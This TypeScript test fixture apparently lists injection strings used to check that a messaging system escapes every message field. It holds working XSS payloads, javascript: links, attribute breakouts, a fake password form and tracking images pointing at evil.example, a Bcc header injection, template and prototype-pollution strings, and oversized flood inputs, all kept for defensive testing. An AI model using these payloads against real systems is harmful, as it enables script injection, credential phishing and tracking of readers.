// The injection attempts that every field of every message is tried with, each with what it would do if it worked.
export interface Attempt {
  name: string
  text: string
}

export const attempts: readonly Attempt[] = [
  { name: 'a mention of everyone', text: '<at>everyone</at>' },
  { name: 'a mention with an id', text: '<at id="0">Ann</at> @channel @everyone' },
  { name: 'emphasis and code', text: '**bold** _it_ `code` ~~gone~~' },
  { name: 'a link in Markdown', text: '[click](https://evil.example)' },
  { name: 'a link with a script', text: '[click](javascript:alert(1)) javascript:alert(1)' },
  { name: 'a link by reference', text: '[click][1]\n\n[1]: https://evil.example' },
  { name: 'a link in angle brackets', text: '<https://evil.example>' },
  { name: 'a picture that tells who reads', text: '![x](https://evil.example/p.png)' },
  { name: 'a script by a picture', text: '<img src=x onerror=alert(1)>' },
  { name: 'a script', text: '</title></style><script>alert(1)</script>' },
  { name: 'a vector script', text: '<svg/onload=alert(1)><iframe src="javascript:alert(1)">' },
  { name: 'a form', text: '<form action="https://evil.example"><input name=p type=password>' },
  { name: 'the end of an attribute', text: '" onmouseover="alert(1)" x="' },
  {
    name: 'the end of an attribute, single',
    text: "' style='background:url(https://evil.example)",
  },
  { name: 'a style', text: '</style><style>body{background:url(https://evil.example)}</style>' },
  { name: 'a comment of Word', text: '<!--[if mso]><a href="https://evil.example">x<![endif]-->' },
  { name: 'the end of a comment', text: '--> <b>x</b> <!--' },
  { name: 'directions and invisible signs', text: '\u202Eevil\u2066\u200F\uFEFF\u200B\u00ADx' },
  { name: 'a header line', text: 'a\r\nBcc: everyone@example.com\r\n\r\nbody' },
  { name: 'an encoded header word', text: '=?utf-8?B?PGI+eDwvYj4=?=' },
  {
    name: 'a date function',
    text: '{{DATE(2020-01-01T00:00:00Z,SHORT)}} {{TIME(2020-01-01T00:00:00Z)}}',
  },
  { name: 'a template', text: '\u0024{title} {{title}} \u0024{if(true, 1, 2)}' },
  { name: 'blocks of Markdown', text: '# head\n- item\n1. one\n> quote\n***\n| a | b |' },
  { name: 'entities', text: '&lt;at&gt;x&lt;/at&gt; &#60;b&#62; &amp;lt;' },
  { name: 'control characters', text: '\0\u0007\u001b[31m' },
  { name: 'a flood of marks', text: 'Z\u0351\u036b\u0343\u032a'.repeat(50) },
  { name: 'half a character', text: '\uD800 lone' },
  { name: '10,000 characters of two units', text: '🧨'.repeat(5000) },
  { name: '10,000 signs of markup', text: '<'.repeat(10_000) },
  { name: '10,000 backslashes', text: '\\'.repeat(10_000) },
  { name: '10,000 ampersands', text: '&#'.repeat(5000) },
  { name: 'a word of 10,000 letters', text: 'x'.repeat(10_000) },
  { name: 'a signature', text: 'https://x.blob.core.windows.net/c?sv=1&sig=TOPSECRETSIGNATURE%3D' },
  { name: 'the name of a property', text: '__proto__ constructor' },
]
